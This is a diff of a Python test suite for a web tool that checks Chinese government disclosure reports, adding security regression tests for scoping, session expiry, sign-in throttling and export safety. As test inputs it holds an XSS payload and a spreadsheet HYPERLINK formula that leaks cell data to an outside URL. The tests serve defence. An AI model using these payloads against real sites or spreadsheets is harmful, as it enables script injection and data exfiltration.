@@ -162,7 +162,8 @@ def test_roles(workspace) -> None:
     csrf = sign_in(client, "view")
     headers = {"X-CSRF-Token": csrf}
     assert client.get(f"/api/reports/{report_id}").status_code == 200
-    cell = client.put(f"/api/reports/{report_id}/cells/requests.new.total", json={"value": "1"}, headers=headers)
+    cell = client.put(f"/api/reports/{report_id}/cells/requests.new.total",
+                      json={"value": "1", "comment": "x", "revision": 0}, headers=headers)
     assert cell.status_code == 403 and detail(cell)["code"] == "auth.forbidden"
     assert client.post("/api/uploads", data={"urls": "https://example.org/a.html"}, headers=headers).status_code == 403
     assert client.get("/api/users").status_code == 403
@@ -270,12 +271,14 @@ def test_correcting_a_cell_reruns_the_checks_and_keeps_an_audit_trail(workspace)
     headers = {"X-CSRF-Token": csrf}
     before = client.get(f"/api/reports/{report_id}").json()
     assert any(BROKEN in f["cells"] and f["severity"] == "error" for f in before["findings"])
-    wrong = client.put(f"/api/reports/{report_id}/cells/{BROKEN}", json={"value": "十二"}, headers=headers)
+    seen = {"revision": before["revision"], "comment": "按原件更正"}
+    wrong = client.put(f"/api/reports/{report_id}/cells/{BROKEN}", json={"value": "十二", **seen}, headers=headers)
     assert wrong.status_code == 400 and detail(wrong)["code"] == "workspace.invalid"
-    unknown = client.put(f"/api/reports/{report_id}/cells/requests.nope.total", json={"value": "1"}, headers=headers)
+    unknown = client.put(f"/api/reports/{report_id}/cells/requests.nope.total", json={"value": "1", **seen},
+                         headers=headers)
     assert unknown.status_code == 400
     old = before["cells"][BROKEN]
-    fixed = client.put(f"/api/reports/{report_id}/cells/{BROKEN}", json={"value": str(old - 1), "comment": "按原件更正"},
+    fixed = client.put(f"/api/reports/{report_id}/cells/{BROKEN}", json={"value": str(old - 1), **seen},
                        headers=headers).json()
     assert fixed["cells"][BROKEN] == old - 1
     assert not [f for f in fixed["findings"] if f["severity"] == "error"]
@@ -293,14 +296,18 @@ def test_correcting_meta_and_review_status(workspace) -> None:
     report_id = ctx["ids"]["广东省广州市财政局", 2022]
     csrf = sign_in(client, "rev")
     headers = {"X-CSRF-Token": csrf}
-    moved = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "2019"}, headers=headers).json()
+    seen = {"revision": client.get(f"/api/reports/{report_id}").json()["revision"], "comment": "年度印错"}
+    moved = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "2019", **seen}, headers=headers).json()
     assert moved["meta"]["year"] == 2019
     assert "format.year_mismatch" in {f["rule"] for f in moved["findings"]}
-    back = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "2022"}, headers=headers).json()
+    seen["revision"] = moved["revision"]
+    back = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "2022", **seen}, headers=headers).json()
     assert "format.year_mismatch" not in {f["rule"] for f in back["findings"]}
-    bad = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "明年"}, headers=headers)
+    seen["revision"] = back["revision"]
+    bad = client.put(f"/api/reports/{report_id}/meta/year", json={"value": "明年", **seen}, headers=headers)
     assert bad.status_code == 400
-    assert client.put(f"/api/reports/{report_id}/meta/source", json={"value": "x"}, headers=headers).status_code == 400
+    assert client.put(f"/api/reports/{report_id}/meta/source", json={"value": "x", **seen},
+                      headers=headers).status_code == 400
 
     refused = client.post(f"/api/reports/{report_id}/review", json={"status": "returned"}, headers=headers)
     assert refused.status_code == 400 and "原因" in detail(refused)["message"]
@@ -438,7 +445,8 @@ def test_report_text_is_escaped_on_every_page(workspace) -> None:
     csrf = sign_in(client, "admin")
     report_id = ctx["ids"]["广东省广州市财政局", 2023]
     evil = '<script>alert(1)</script><img src=x onerror="alert(2)">'
-    client.put(f"/api/reports/{report_id}/meta/title", json={"value": evil, "comment": evil},
+    revision = client.get(f"/api/reports/{report_id}").json()["revision"]
+    client.put(f"/api/reports/{report_id}/meta/title", json={"value": evil, "comment": evil, "revision": revision},
                headers={"X-CSRF-Token": csrf})
     for url in (f"/reports/{report_id}", "/?year=2023"):
         page = client.get(url)
@@ -455,3 +463,214 @@ def test_openapi_documents_the_api(workspace) -> None:
                  "/api/export.{kind}", "/api/users", "/api/tokens"):
         assert path in paths, path
     assert "/login" not in paths
+
+
+# -- trust (issue 13): each attack of the review, as a request --------------------------------------
+
+def _put(client: TestClient, report_id: int, what: str, value: str, headers: dict, **extra) -> object:
+    revision = client.get(f"/api/reports/{report_id}").json()["revision"]
+    return client.put(f"/api/reports/{report_id}/{what}", json={"value": value, "comment": "核对原件",
+                                                                "revision": revision, **extra}, headers=headers)
+
+
+def test_scoped_reviewer_cannot_reach_another_region_through_cross_year_checks(workspace) -> None:
+    client, ctx = workspace
+    headers = {"X-CSRF-Token": sign_in(client, "zj")}
+    mine, theirs = ctx["ids"]["浙江省杭州市民政局", 2023], ctx["ids"]["广东省广州市财政局", 2022]
+    before, trail = ctx["work"].store.load(theirs).findings, ctx["work"].audit(theirs)
+    refused = _put(client, mine, "meta/agency", "广东省广州市财政局", headers)
+    assert refused.status_code == 403 and detail(refused)["code"] == "workspace.out_of_scope"
+    assert ctx["work"].store.load(mine).meta.agency == "浙江省杭州市民政局"
+    assert ctx["work"].store.load(theirs).findings == before and ctx["work"].audit(theirs) == trail
+
+
+def test_a_stale_correction_is_409_with_the_current_value_and_a_reason_is_required(workspace) -> None:
+    client, ctx = workspace
+    headers = {"X-CSRF-Token": sign_in(client, "rev")}
+    report_id = ctx["ids"]["广东省广州市财政局", 2023]
+    key = "requests.new.research"
+    seen = client.get(f"/api/reports/{report_id}").json()
+    first = client.put(f"/api/reports/{report_id}/cells/{key}", headers=headers,
+                       json={"value": "7", "comment": "第一人", "revision": seen["revision"]})
+    assert first.status_code == 200 and first.json()["revision"] == seen["revision"] + 1
+    second = client.put(f"/api/reports/{report_id}/cells/{key}", headers=headers,
+                        json={"value": "9", "comment": "第二人", "revision": seen["revision"]})
+    body = detail(second)
+    assert second.status_code == 409 and body["code"] == "workspace.conflict"
+    assert body["current"] == "7" and body["revision"] == seen["revision"] + 1
+    blank = client.put(f"/api/reports/{report_id}/cells/{key}", headers=headers,
+                       json={"value": "9", "comment": " ", "revision": body["revision"]})
+    assert blank.status_code == 400 and "原因" in detail(blank)["message"]
+    missing = client.put(f"/api/reports/{report_id}/cells/{key}", headers=headers, json={"value": "9"})
+    assert missing.status_code == 422
+    page = client.get(f"/reports/{report_id}").text  # the corrected cell is marked in the table
+    assert re.search(rf'<td class="cell [^"]*corrected[^"]*" data-key="{re.escape(key)}"', page)
+    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv").content.decode("utf-8-sig"))))
+    assert next(r for r in rows if r["report_id"] == str(report_id))["corrected"].split() == [key]
+    book = load_workbook(io.BytesIO(client.get("/api/export.xlsx").content))
+    sheet = book["三、依申请公开"]
+    column = [c.value for c in sheet[2]].index(key) + 1
+    row = next(r for r in range(3, sheet.max_row + 1) if sheet.cell(r, 1).value == report_id)
+    assert sheet.cell(row, column).comment is not None and sheet.cell(row, column).value == 7
+
+
+def test_sessions_end_at_logout_and_at_a_password_change(workspace) -> None:
+    client, ctx = workspace
+    csrf = sign_in(client, "view")
+    cookie = client.cookies.get("gknb_session")
+    assert client.get("/api/me").status_code == 200
+    client.post("/logout", data={"csrf": csrf}, follow_redirects=False)
+    client.cookies.set("gknb_session", cookie)  # the cookie kept by someone else
+    assert client.get("/api/me").status_code == 401
+    sign_in(client, "view")
+    cookie = client.cookies.get("gknb_session")
+    ctx["work"].update_user("view", password=PASSWORD)  # a password change (to the same, here)
+    client.cookies.set("gknb_session", cookie)
+    assert client.get("/api/me").status_code == 401
+
+
+def test_sign_in_is_throttled_per_client_address_as_well(workspace) -> None:
+    client, _ = workspace
+    throttle = client.app.state.sign_in_throttle
+    throttle._state.clear()  # the earlier tests' failures from this address forgotten
+    client.cookies.clear()
+    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
+    try:
+        codes = [client.post("/login", data={"name": f"guess{i}", "password": "wrong-pass", "csrf": token}).status_code
+                 for i in range(throttle.address_failures + 2)]
+        assert codes[:throttle.address_failures] == [401] * throttle.address_failures
+        assert codes[throttle.address_failures:] == [429, 429]  # new names, same address
+        assert client.post("/login", data={"name": "rev", "password": PASSWORD, "csrf": token}).status_code == 429
+    finally:
+        throttle._state.clear()  # as if the minute had passed
+
+
+def test_exports_do_not_run_text_as_formulas(workspace) -> None:
+    client, ctx = workspace
+    headers = {"X-CSRF-Token": sign_in(client, "admin")}
+    report_id = ctx["ids"]["广东省广州市财政局", 2022]
+    evil = '=HYPERLINK("http://example.org/?"&A2,"点击")'
+    assert _put(client, report_id, "meta/agency", evil, headers).status_code == 200
+    try:
+        book = load_workbook(io.BytesIO(client.get("/api/export.xlsx").content))
+        cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == evil]
+        assert len(cells) >= 4 and all(c.data_type == "s" for c in cells)
+        text = client.get("/api/export.csv").content.decode("utf-8-sig")
+        assert "'" + evil.replace('"', '""') in text and f",{evil.replace(chr(34), chr(34) * 2)}" not in text
+    finally:
+        _put(client, report_id, "meta/agency", "广东省广州市财政局", headers)
+
+
+def test_huge_integers_are_422_not_500(workspace) -> None:
+    client, ctx = workspace
+    sign_in(client, "admin")
+    report_id = ctx["ids"]["广东省广州市财政局", 2022]
+    for url in (f"/api/reports/{2**63}", f"/api/reports/{2**31}", f"/api/reports/{report_id}/pages/{2**63}.png",
+                f"/api/reports?year={2**63}", f"/api/compare?a={2**63}&b={report_id}", f"/api/reports?page={2**63}",
+                f"/reports/{2**63}", f"/?page={2**63}"):
+        assert client.get(url).status_code == 422, url
+
+
+def test_uploads_outside_the_scope_are_refused_without_revealing_other_regions(workspace) -> None:
+    client, ctx = workspace
+    headers = {"X-CSRF-Token": sign_in(client, "zj")}
+    fmt = FORMATS["2021"]
+    rnd = random.Random(31)
+    elsewhere = render(fmt, random_report(fmt, rnd), "tab", rnd, year=2023, agency="江苏省苏州市民政局").encode()
+    known = ctx["files"]["广东省广州市财政局", 2023].read_bytes()  # stored already, in 广东
+    sent = client.post("/api/uploads", headers=headers, files=[
+        ("files", ("其他省.txt", known, "text/plain")), ("files", ("江苏.txt", elsewhere, "text/plain"))]).json()
+    done = {f["name"]: f for f in wait_done(client, sent["id"])["files"]}
+    assert {name: (f["status"], f["error"]["code"]) for name, f in done.items()} == {
+        "其他省.txt": ("failed", "upload.out_of_scope"), "江苏.txt": ("failed", "upload.out_of_scope")}
+    assert all(f.get("report_id") is None for f in done.values())
+    assert ctx["work"].store.report_ids({"agency": "江苏省苏州市民政局"}) == []
+
+
+def test_a_url_given_twice_is_refused_and_the_upload_finishes(workspace) -> None:
+    client, _ = workspace
+    headers = {"X-CSRF-Token": sign_in(client, "rev")}
+    url = "http://127.0.0.1:9/a.html"
+    sent = client.post("/api/uploads", data={"urls": f"{url}\n{url}\n"}, headers=headers).json()
+    assert [f["status"] for f in sent["files"]] == ["queued", "failed"]
+    assert sent["files"][1]["error"]["code"] == "upload.repeated"
+    done = wait_done(client, sent["id"])
+    assert done["files"][0]["status"] == "failed" and done["state"] == "done"
+
+
+def test_the_last_admin_stays_and_a_scope_must_name_a_region(workspace) -> None:
+    client, _ = workspace
+    headers = {"X-CSRF-Token": sign_in(client, "admin")}
+    last = client.patch("/api/users/admin", json={"active": False}, headers=headers)
+    assert last.status_code == 400 and "last active admin" in detail(last)["message_en"]
+    nowhere = client.post("/api/users", json={"name": "sd", "password": PASSWORD, "region": "山东"}, headers=headers)
+    assert nowhere.status_code == 400 and "山东省" in detail(nowhere)["message"]
+    assert client.get("/api/me").json()["name"] == "admin"
+
+
+def test_database_errors_are_answered_clearly_and_damage_is_found_at_start(tmp_path: Path) -> None:
+    import sqlite3
+
+    from gknb.store.health import DatabaseDamaged
+
+    db = tmp_path / "broken.db"
+    app = create_app(f"sqlite:///{db}", upload_dir=tmp_path / "up")
+    work = app.state.workspace
+    ingest(work.store, [str(SAMPLES)])
+    work.add_user("admin", PASSWORD, role="admin")
+    report_id = work.store.report_ids()[0]
+    with TestClient(app) as client:
+        sign_in(client, "admin")
+        raw = sqlite3.connect(db)
+        raw.execute("DROP TABLE audit")
+        raw.commit()
+        raw.close()
+        for url in (f"/api/reports/{report_id}/audit", f"/reports/{report_id}"):
+            answer = client.get(url)
+            assert answer.status_code == 503, url
+            assert "数据库" in answer.text and "database" in answer.text
+            assert not re.search(r"SELECT|FROM|audit\.|sqlite|Traceback", answer.text, re.IGNORECASE)
+    work.store.close()  # every connection closed: the write-ahead log is back in the file
+
+    size, page = db.stat().st_size, 4096
+    with db.open("r+b") as handle:  # damage in the second half of the file (every page's head), the header intact
+        for offset in range(size // 2 // page * page, size, page):
+            handle.seek(offset)
+            handle.write(b"\xde\xad" * 16)
+    with pytest.raises(DatabaseDamaged) as damaged:
+        create_app(f"sqlite:///{db}", upload_dir=tmp_path / "up2")
+    assert "损坏" in damaged.value.message and "damaged" in damaged.value.message_en
+
+
+def test_a_page_image_is_bounded_in_pixels(tmp_path: Path) -> None:
+    import pypdfium2
+    from PIL import Image
+
+    from gknb.web.sources import MAX_PIXELS, MAX_SIDE, page_png
+
+    pdf = pypdfium2.PdfDocument.new()
+    pdf.new_page(14400, 14400)  # the largest page PDF allows: 21 600 px square at the display scale
+    pdf.new_page(14400, 300)
+    out = io.BytesIO()
+    pdf.save(out)
+    for page in (1, 2):
+        image = Image.open(io.BytesIO(page_png(out.getvalue(), page)))
+        assert image.width * image.height <= MAX_PIXELS and max(image.size) <= MAX_SIDE
+    scan = io.BytesIO()
+    Image.new("L", (12000, 9000), 255).save(scan, format="PNG")  # a 108-megapixel scan is not decoded
+    assert page_png(scan.getvalue(), 1) is None
+
+
+def test_the_upload_feed_takes_users_in_turn() -> None:
+    """Two large scans of one user queued first do not hold back another user's small file: the feed
+    takes one input per user in turn, also of inputs added while it is being drawn."""
+    from gknb.store.bulk import Item
+    from gknb.web.uploads import FairFeed
+
+    feed = FairFeed()
+    feed.add("busy", [Item("scan-1.pdf"), Item("scan-2.pdf"), Item("scan-3.pdf")])
+    drawn = [next(feed).location]
+    feed.add("other", [Item("small.txt")])
+    drawn += [item.location for item in feed]
+    assert drawn == ["scan-1.pdf", "small.txt", "scan-2.pdf", "scan-3.pdf"]
+    assert len(feed) == 0
